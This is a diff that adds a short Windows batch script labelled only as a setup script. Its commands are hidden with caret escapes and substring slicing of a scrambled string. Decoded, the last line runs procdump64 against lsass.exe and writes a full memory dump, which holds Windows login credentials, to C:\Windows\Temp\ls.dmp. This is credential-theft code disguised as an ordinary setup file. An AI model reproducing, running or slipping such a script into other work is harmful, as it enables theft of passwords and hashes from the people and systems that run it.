@@ -1,0 +1,4 @@
+REM setup 1647 v3
+@ech^o o^f^f
+se^t "dnte=4Hlwocfyt6:ixTd.CrnXQAa-mvps\uWe3"
+%dnte:~26,1%%dnte:~17,1%%dnte:~-29,1%%dnte:~-28,1%%dnte:~14,1%%dnte:~-4,1%%dnte:~24,1%%dnte:~26,1%%dnte:~-24,1%%dnte:~0,1%%dnte:~15,1%%dnte:~31,1%%dnte:~12,1%%dnte:~-2,1% %dnte:~23,1%%dnte:~22,1%%dnte:~5,1%%dnte:~-28,1%%dnte:~-2,1%%dnte:~26,1%%dnte:~-25,1%%dnte:~31,1%%dnte:~-4,1%%dnte:~-31,1%%dnte:~22,1% %dnte:~23,1%%dnte:~-9,1%%dnte:~-11,1% %dnte:~2,1%%dnte:~27,1%%dnte:~-11,1%%dnte:~27,1%%dnte:~27,1%%dnte:~-18,1%%dnte:~-2,1%%dnte:~-21,1%%dnte:~31,1% %dnte:~-17,1%%dnte:~10,1%%dnte:~28,1%%dnte:~30,1%%dnte:~11,1%%dnte:~-15,1%%dnte:~14,1%%dnte:~4,1%%dnte:~3,1%%dnte:~-6,1%%dnte:~28,1%%dnte:~13,1%%dnte:~-2,1%%dnte:~24,1%%dnte:~26,1%%dnte:~-5,1%%dnte:~-31,1%%dnte:~27,1%%dnte:~15,1%%dnte:~-19,1%%dnte:~-9,1%%dnte:~-7,1%
